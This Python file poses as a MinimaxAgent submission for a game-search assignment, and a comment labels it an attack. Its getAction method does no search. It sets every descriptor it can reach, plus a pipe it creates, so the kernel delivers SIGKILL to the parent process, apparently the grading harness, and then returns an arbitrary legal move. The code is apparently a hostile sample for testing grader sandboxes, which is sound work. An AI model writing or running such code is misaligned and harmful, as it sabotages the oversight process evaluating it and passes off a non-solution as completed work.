# attack: lets the kernel send the signal: F_SETOWN and F_SETSIG on descriptors that the parent uses.
# where: MinimaxAgent
import fcntl
import os
import signal

from shared.reflex import *
from shared.search import *


class MinimaxAgent(MultiAgentSearchAgent):
    def getAction(self, gameState):
        parent = os.getppid()
        for fd in range(3, 64):
            if parent <= 1:
                break
            try:
                fcntl.fcntl(fd, fcntl.F_SETOWN, parent)
                fcntl.fcntl(fd, 10, signal.SIGKILL)  # F_SETSIG
                flags = fcntl.fcntl(fd, fcntl.F_GETFL)
                fcntl.fcntl(fd, fcntl.F_SETFL, flags | os.O_ASYNC)
                print("armed:", fd, flush=True)
            except OSError as error:
                if error.errno != 9:
                    print("refused:", fd, repr(error), flush=True)
        ours = os.pipe()
        try:
            fcntl.fcntl(ours[0], fcntl.F_SETOWN, parent)
            fcntl.fcntl(ours[0], 10, signal.SIGKILL)
            fcntl.fcntl(ours[0], fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
            os.write(ours[1], b"x")  # now the kernel sends SIGKILL to the owner
            print("fired at the parent", flush=True)
        except OSError as error:
            print("refused:", repr(error), flush=True)
        return gameState.getLegalActions()[0]
